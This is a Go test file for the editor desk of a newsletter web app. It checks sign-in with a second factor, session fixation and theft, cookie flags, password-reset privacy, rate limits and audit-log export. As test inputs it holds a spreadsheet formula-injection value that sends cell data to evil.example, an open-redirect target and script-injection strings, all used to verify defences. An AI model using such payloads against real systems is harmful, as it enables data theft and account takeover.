package web_test

import (
	"encoding/csv"
	"encoding/json"
	"html"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/pquerna/otp/totp"

	"sesec.eu/tidings/subscriptions"
	"sesec.eu/tidings/web"
	"sesec.eu/tidings/web/desk"
)

const (
	goodPassword  = "violet harbour ninety spoons"
	otherPassword = "eleven quiet lanterns of tin"
)

// visitor keeps cookies as a browser does.
type visitor struct {
	s       *site
	cookies map[string]string
}

func (s *site) visitor() *visitor { return &visitor{s, map[string]string{}} }

func (b *visitor) do(r *http.Request) answer {
	b.s.t.Helper()
	for name, value := range b.cookies {
		r.AddCookie(&http.Cookie{Name: name, Value: value})
	}
	a := b.s.do(r)
	for _, c := range a.Cookies() {
		if b.cookies[c.Name] = c.Value; c.MaxAge < 0 {
			delete(b.cookies, c.Name)
		}
	}
	return a
}

func (b *visitor) get(path string) answer {
	b.s.t.Helper()
	return b.do(httptest.NewRequest(http.MethodGet, path, nil))
}

func (b *visitor) post(path string, form url.Values) answer {
	b.s.t.Helper()
	r := httptest.NewRequest(http.MethodPost, path, strings.NewReader(form.Encode()))
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	r.Header.Set("Sec-Fetch-Site", "same-origin")
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
	return b.do(r)
}

// to checks that the browser is sent on, and goes there.
func (b *visitor) to(t *testing.T, a answer, path string, words ...string) answer {
	t.Helper()
	if a.StatusCode != http.StatusSeeOther || a.Header.Get("Location") != path {
		t.Fatalf("%s to %q, want it sent to %s:\n%s", a.Status, a.Header.Get("Location"), path, a.body)
	}
	next := b.get(path)
	next.want(t, http.StatusOK, words...)
	return next
}

// works adds somebody to the desk with goodPassword.
func (s *site) works(t *testing.T, address string, role subscriptions.Role) subscriptions.Editor {
	t.Helper()
	e, err := s.office().Add(t.Context(), subscriptions.AtCommandLine, subscriptions.NewEditor{Name: "Anna Berg", Address: address, Role: role})
	if err == nil {
		err = s.office().SetPassword(t.Context(), subscriptions.AtCommandLine, e.ID, goodPassword)
	}
	if err != nil {
		t.Fatal(err)
	}
	return e
}

var (
	setupField = regexp.MustCompile(`name="setup" value="([^"]+)"`)
	secretText = regexp.MustCompile(`class="secret">([A-Z2-7 ]+)<`)
	codeItem   = regexp.MustCompile(`<li><code>([^<]+)</code>`)
)

// setUp turns the second factor on and gives its secret and the recovery codes.
func (b *visitor) setUp(t *testing.T) (secret string, codes []string) {
	t.Helper()
	form := b.get("/desk/account/factor")
	form.want(t, http.StatusOK, "data:image/svg&#43;xml;base64,")
	secret = strings.ReplaceAll(secretText.FindStringSubmatch(form.body)[1], " ", "")
	sealed := html.UnescapeString(setupField.FindStringSubmatch(form.body)[1])
	b.post("/desk/account/factor", url.Values{"setup": {sealed}, "code": {"000000"}}).want(t, http.StatusUnprocessableEntity, "does not fit", secret[:4])
	done := b.post("/desk/account/factor", url.Values{"setup": {sealed}, "code": {b.s.code(t, secret)}})
	done.want(t, http.StatusOK, "recovery codes")
	for _, m := range codeItem.FindAllStringSubmatch(done.body, -1) {
		codes = append(codes, m[1])
	}
	if len(codes) != 10 {
		t.Fatalf("%d recovery codes", len(codes))
	}
	return secret, codes
}

func (s *site) code(t *testing.T, secret string) string {
	t.Helper()
	code, err := totp.GenerateCode(secret, s.now)
	if err != nil {
		t.Fatal(err)
	}
	return code
}

func signInForm(address, password string) url.Values {
	return url.Values{"email": {address}, "password": {password}, "to": {"/desk"}}
}

// TestFromTheInvitationToTheDesk is the way of a new publisher.
func TestFromTheInvitationToTheDesk(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	admin := s.as(subscriptions.RoleAdmin)
	admin.post("/desk/settings/people", url.Values{"name": {""}, "email": {"x"}, "role": {"publisher"}}).want(t, http.StatusUnprocessableEntity, "Enter a name", "not an e-mail address")
	if a := admin.post("/desk/settings/people", url.Values{"name": {"Ben <i>"}, "email": {"ben@example.org"}, "role": {"publisher"}}); a.StatusCode != http.StatusSeeOther {
		t.Fatal(a.Status, a.body)
	}
	admin.get("/desk/settings/people").want(t, http.StatusOK, "Ben &lt;i&gt; is invited", "ben@example.org", "invited 1 April 2019")
	admin.post("/desk/settings/people", url.Values{"name": {"Ben"}, "email": {"ben@example.org"}, "role": {"publisher"}}).want(t, http.StatusUnprocessableEntity, "works at the desk already")
	ben, err := s.store.FindEditorByAddress(t.Context(), "ben@example.org")
	if err != nil {
		t.Fatal(err)
	}
	token, _ := ben.Link(s.keys, subscriptions.KindInvitation, s.now)
	link := "/desk/invitation/" + token

	b := s.visitor()
	before := s.dump()
	b.get(link).want(t, http.StatusOK, "Welcome to the desk", "Ben &lt;i&gt;", "ben@example.org")
	b.get("/desk/reset/"+token).want(t, http.StatusNotFound, "does not work")
	if s.dump() != before {
		t.Error("opening the link changed the database")
	}
	b.post(link, url.Values{"password": {"short"}}).want(t, http.StatusUnprocessableEntity, "at least 12 characters", `action="`+link+`"`)
	b.to(t, b.post(link, url.Values{"password": {goodPassword}}), "/desk/sign-in?set=1", "Your password is set")
	b.get(link).want(t, http.StatusGone, "was used")

	b.to(t, b.get("/desk/account?q=1"), "/desk/sign-in?to=%2Fdesk%2Faccount%3Fq%3D1", `value="/desk/account?q=1"`)
	b.post("/desk/sign-in", signInForm("ben@example.org", otherPassword)).want(t, http.StatusUnprocessableEntity, "do not belong together", `value="ben@example.org"`)
	if a := b.post("/desk/sign-in", signInForm("ben@example.org", goodPassword)); a.StatusCode != http.StatusSeeOther || a.Header.Get("Location") != "/desk" {
		t.Fatal(a.Status, a.Header)
	}
	// Nothing but the second factor, before it is there.
	b.to(t, b.get("/desk"), "/desk/account/factor", "signs in with a code beside the password")
	b.post("/desk/account/name", url.Values{"name": {"Benno"}}).want(t, http.StatusForbidden, "A second factor comes first")
	secret, codes := b.setUp(t)
	b.get("/desk").want(t, http.StatusOK, "Today")
	b.get("/desk/account").want(t, http.StatusOK, "Firefox on Linux", "10 recovery codes are left", "192.0.2.0/24")

	again := s.visitor()
	s.now = s.now.Add(time.Minute)
	a := again.post("/desk/sign-in", signInForm("ben@example.org", goodPassword))
	again.to(t, a, "/desk/sign-in/code?to=%2Fdesk", "six digits")
	again.to(t, again.get("/desk"), "/desk/sign-in?to=%2Fdesk") // the password alone opens nothing
	again.post("/desk/sign-in/code", url.Values{"code": {"000000"}, "to": {"/desk"}}).want(t, http.StatusUnprocessableEntity, "wrong, or was used")
	again.to(t, again.post("/desk/sign-in/code", url.Values{"code": {s.code(t, secret)}, "to": {"/desk"}}), "/desk", "Today")
	third := s.visitor()
	third.post("/desk/sign-in", signInForm("ben@example.org", goodPassword))
	third.post("/desk/sign-in/code", url.Values{"code": {s.code(t, secret)}}).want(t, http.StatusUnprocessableEntity)
	third.to(t, third.post("/desk/sign-in/code", url.Values{"code": {codes[0]}, "to": {"//evil.example"}}), "/desk")
	b.get("/desk/account").want(t, http.StatusOK, "9 recovery codes are left", "Sign out everywhere else")
	b.to(t, b.post("/desk/account/sessions/end", nil), "/desk/account", "signed out everywhere else")
	again.to(t, again.get("/desk"), "/desk/sign-in?to=%2Fdesk")
	s.noTokens(token, b.cookies["tidings-desk"], b.cookies["tidings-device"], secret)
}

func TestASessionIsNeitherFixedNorStolen(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	s.works(t, "anna@example.org", subscriptions.RoleEditor)
	b := s.visitor()
	b.cookies["tidings-desk"] = "planted-by-somebody-else" // a token that the attacker knows
	b.to(t, b.post("/desk/sign-in", signInForm("anna@example.org", goodPassword)), "/desk", "Today")
	token := b.cookies["tidings-desk"]
	if token == "planted-by-somebody-else" || len(token) != 43 {
		t.Errorf("the token is %q", token)
	}
	thief := s.visitor()
	thief.cookies["tidings-desk"] = token
	thief.get("/desk").want(t, http.StatusOK)
	// A new password takes the session from whoever has copied the cookie.
	b.post("/desk/account/password", url.Values{"current": {otherPassword}, "password": {otherPassword}}).want(t, http.StatusUnprocessableEntity, "not your password")
	b.to(t, b.post("/desk/account/password", url.Values{"current": {goodPassword}, "password": {otherPassword}}), "/desk/account", "The new password is set")
	if thief.get("/desk").StatusCode != http.StatusSeeOther || b.cookies["tidings-desk"] == token {
		t.Error("the stolen token still works")
	}
	// So does signing in again, in the same browser, with the session it had.
	mine := b.cookies["tidings-desk"]
	thief.cookies["tidings-desk"] = mine
	b.post("/desk/sign-in", signInForm("anna@example.org", otherPassword))
	if thief.get("/desk").StatusCode != http.StatusSeeOther {
		t.Error("the session before the sign-in still works")
	}
	s.now = s.now.Add(2*time.Hour + time.Minute)
	if b.get("/desk").StatusCode != http.StatusSeeOther {
		t.Error("a session that was left alone still works")
	}
}

func TestTheCookiesAreForNobodyElse(t *testing.T) {
	t.Parallel()
	for base, prefix := range map[string]string{"https://tidings.example.org": "__Host-", "http://127.0.0.1:8080": ""} {
		s := newSite(t, func(o *web.Options) { o.Identity.BaseURL = base })
		s.works(t, "anna@example.org", subscriptions.RoleEditor)
		a := s.post("/desk/sign-in", signInForm("anna@example.org", goodPassword))
		if len(a.Cookies()) != 2 {
			t.Fatalf("%s: %v", a.Status, a.Cookies())
		}
		for i, name := range []string{"tidings-desk", "tidings-device"} {
			c := a.Cookies()[i]
			if c.Name != prefix+name || !c.HttpOnly || c.Secure != (prefix != "") || c.SameSite != http.SameSiteLaxMode || c.Path != "/" || c.Domain != "" {
				t.Errorf("%s: %+v", base, c)
			}
			if long := c.MaxAge > 0; long != (name == "tidings-device") {
				t.Errorf("%s lives for %d s", name, c.MaxAge)
			}
		}
	}
}

func TestForgettingThePasswordTellsNothing(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	e := s.works(t, "anna@example.org", subscriptions.RoleEditor)
	known := s.post("/desk/forgot", url.Values{"email": {"anna@example.org"}})
	unknown := s.post("/desk/forgot", url.Values{"email": {"nobody@example.org"}})
	if known.Status != unknown.Status || known.body != unknown.body || known.Header.Get("Location") != unknown.Header.Get("Location") {
		t.Errorf("known: %v, unknown: %v", known.Header, unknown.Header)
	}
	s.get(known.Header.Get("Location")).want(t, http.StatusOK, "If somebody with this address")
	s.post("/desk/forgot", url.Values{"email": {"anna"}}).want(t, http.StatusUnprocessableEntity, "not an e-mail address", `value="anna"`)
	queued, err := s.store.Deliveries(t.Context(), subscriptions.DeliveryFilter{})
	if err != nil || len(queued) != 1 || queued[0].Kind != subscriptions.KindReset || queued[0].RefID != e.ID {
		t.Fatalf("%v, %v", queued, err)
	}
	current, err := s.store.FindEditor(t.Context(), e.ID)
	if err != nil {
		t.Fatal(err)
	}
	token, _ := current.Link(s.keys, subscriptions.KindReset, s.now)
	b := s.visitor()
	b.get("/desk/reset/"+token).want(t, http.StatusOK, "takes the place")
	b.to(t, b.post("/desk/reset/"+token, url.Values{"password": {otherPassword}}), "/desk/sign-in?set=1")
	b.post("/desk/reset/"+token, url.Values{"password": {goodPassword}}).want(t, http.StatusGone, "was used")
	b.to(t, b.post("/desk/sign-in", signInForm("anna@example.org", otherPassword)), "/desk")
	s.noTokens(token)
}

func TestTooManyTriesAreTold(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	s.works(t, "anna@example.org", subscriptions.RoleEditor)
	for range 10 {
		s.post("/desk/sign-in", signInForm("anna@example.org", "wrong")).want(t, http.StatusUnprocessableEntity)
	}
	s.post("/desk/sign-in", signInForm("anna@example.org", goodPassword)).want(t, http.StatusTooManyRequests, "Too many tries from where you are", "Try again in 10 minutes", `value="anna@example.org"`)
}

func TestWhatCannotBeTakenBackAsksForThePassword(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	anna := s.works(t, "anna@example.org", subscriptions.RoleAdmin)
	ben := s.works(t, "ben@example.org", subscriptions.RoleAdmin)
	b := s.visitor()
	b.post("/desk/sign-in", signInForm("anna@example.org", goodPassword))
	b.setUp(t)
	path := "/desk/settings/people/" + url.PathEscape("2")
	if ben.ID != 2 || anna.ID != 1 {
		t.Fatal(anna.ID, ben.ID)
	}
	b.get(path).want(t, http.StatusOK, "End their work here")
	s.now = s.now.Add(30 * time.Minute)
	if page := b.get(path); strings.Contains(page.body, "End their work here") || !strings.Contains(page.body, "Enter your password") {
		t.Error("the forms are there without the password")
	}
	invite := url.Values{"name": {"Cem"}, "email": {"cem@example.org"}, "role": {"editor"}}
	asked := b.post("/desk/settings/people", invite)
	b.to(t, asked, "/desk/confirm?to=%2Fdesk%2Fsettings%2Fpeople%3Femail%3Dcem%2540example.org%26name%3DCem%26role%3Deditor")
	for _, act := range []string{"/role", "/end", "/factor", "/invite"} {
		b.to(t, b.post(path+act, url.Values{"role": {"editor"}, "sure": {"yes"}}), "/desk/confirm?to=%2Fdesk%2Fsettings%2Fpeople%2F2", "Confirm that it is you")
	}
	if again, err := s.store.FindEditor(t.Context(), ben.ID); err != nil || !again.Active() || again.Role != subscriptions.RoleAdmin {
		t.Fatalf("it was done all the same: %+v, %v", again, err)
	}
	b.post("/desk/confirm", url.Values{"current": {otherPassword}, "to": {path}}).want(t, http.StatusUnprocessableEntity, "not your password")
	back := "/desk/settings/people?email=cem%40example.org&name=Cem&role=editor"
	b.to(t, b.post("/desk/confirm", url.Values{"current": {goodPassword}, "to": {back}}), back, `value="cem@example.org"`, `value="Cem"`)
	b.post(path+"/end", nil).want(t, http.StatusUnprocessableEntity, "Tick that you are sure")
	b.to(t, b.post(path+"/end", url.Values{"sure": {"yes"}}), path, "does not work at the desk any more")
	b.post("/desk/settings/people/1/end", url.Values{"sure": {"yes"}}).want(t, http.StatusConflict, "the only admin")
	b.get("/desk/settings/audit?subject=editor:2").want(t, http.StatusOK, "editor.end", "Anna Berg")
}

func TestTheAuditLogIsSearchedAndExported(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	admin := s.as(subscriptions.RoleAdmin)
	evil := `=HYPERLINK("https://evil.example/"&A1)`
	for i := range 120 {
		e := subscriptions.AuditEvent{At: s.now.Add(time.Duration(i) * time.Minute), Actor: "Anna", Action: "item.save", Subject: "item:7", About: "<script>alert(1)</script>"}
		if i == 60 {
			e = subscriptions.AuditEvent{At: s.now.AddDate(0, 0, 3), Actor: "@Ben", EditorID: admin.Editor.ID, Action: "topic.merge", About: evil, Detail: "+1", IP: "192.0.2.9"}
		}
		if err := s.store.AddAudit(t.Context(), &e); err != nil {
			t.Fatal(err)
		}
	}
	first := admin.get("/desk/settings/audit")
	first.want(t, http.StatusOK, "&lt;script&gt;", "Older")
	if n := strings.Count(first.body, "<tr data-row>"); n != 50 {
		t.Errorf("%d lines on the first page", n)
	}
	next := html.UnescapeString(regexp.MustCompile(`rel="next" href="([^"]+)"`).FindStringSubmatch(first.body)[1])
	admin.get(next).want(t, http.StatusOK, "topic.merge", "Newest")
	for query, words := range map[string]string{"?q=HYPER": "topic.merge", "?action=topic.": "topic.merge", "?editor=1": "topic.merge", "?from=2019-04-04&to=2019-04-04": "topic.merge",
		"?q=nothing-like-it": "No line matches", "?to=2019-03-01": "No line matches"} {
		page := admin.get("/desk/settings/audit" + query)
		page.want(t, http.StatusOK, words)
		if strings.Contains(page.body, "item.save") {
			t.Errorf("%s shows what does not match", query)
		}
	}
	admin.get("/desk/settings/audit?from=yesterday").want(t, http.StatusUnprocessableEntity, "not a day", `value="yesterday"`)
	admin.get("/desk/settings/audit.csv?from=yesterday").want(t, http.StatusUnprocessableEntity)
	rows, err := csv.NewReader(strings.NewReader(admin.get("/desk/settings/audit.csv").body)).ReadAll()
	if err != nil || len(rows) != 121 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("a spreadsheet would run %q", cell)
			}
		}
	}
	if got := strings.Join(rows[60][2:], "|"); got != `'@Ben|topic.merge||'`+evil+`|'+1|192.0.2.9` {
		t.Errorf("the line reads %s", got)
	}
	var events []map[string]any
	if err := json.Unmarshal([]byte(admin.get("/desk/settings/audit.json?action=topic.").body), &events); err != nil || len(events) != 1 || events[0]["about"] != evil {
		t.Errorf("%v, %v", events, err)
	}
	if err := json.Unmarshal([]byte(admin.get("/desk/settings/audit.json?action=no.").body), &events); err != nil || len(events) != 0 {
		t.Errorf("an empty export: %v, %v", events, err)
	}
}

// TestReadingAtTheDeskChangesNothing opens every page as an admin.
func TestReadingAtTheDeskChangesNothing(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	admin := s.as(subscriptions.RoleAdmin)
	parameter := regexp.MustCompile(`[:*][a-z]+`)
	before := s.dump()
	for _, route := range s.newDesk().Routes() {
		if route.Method == http.MethodGet {
			for _, value := range []string{"1", "99", "x"} {
				if a := admin.get(parameter.ReplaceAllString(route.Path, value)); a.StatusCode >= 500 {
					t.Errorf("%s: %s\n%s", route.Path, a.Status, a.body)
				}
			}
		}
	}
	if after := s.dump(); after != before {
		t.Errorf("reading changed the database:\n%s", diff(before, after))
	}
}

func TestDeviceWords(t *testing.T) {
	t.Parallel()
	for agent, want := range map[string]string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0":                                                 "Firefox on Windows",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36":                "Chrome on a Mac",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36 Edg/126.0":            "Edge on Windows",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile Safari/604.1": "Safari on an iPhone",
		"Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Mobile Safari/537.36":                         "Chrome on Android",
		"curl/8.5.0": "Curl", "": "An unknown browser", "<script>": "An unknown browser",
	} {
		if got := desk.DeviceWords(agent); got != want {
			t.Errorf("%q for %s, want %q", got, agent, want)
		}
	}
}
